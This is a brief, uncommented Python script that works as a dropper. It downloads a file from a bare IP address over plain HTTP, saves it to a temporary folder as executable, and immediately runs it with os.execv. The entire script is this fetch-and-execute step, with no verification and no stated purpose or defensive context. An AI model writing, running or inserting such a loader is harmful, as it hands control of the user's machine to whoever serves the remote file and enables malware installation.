import os
import tempfile
import urllib.request

folder = tempfile.mkdtemp()
tool = os.path.join(folder, "tool")
with urllib.request.urlopen("http://192.0.2.7/tool") as answer:
    descriptor = os.open(tool, os.O_CREAT | os.O_WRONLY, 0o755)
    os.write(descriptor, answer.read())
    os.close(descriptor)
os.execv(tool, [tool])
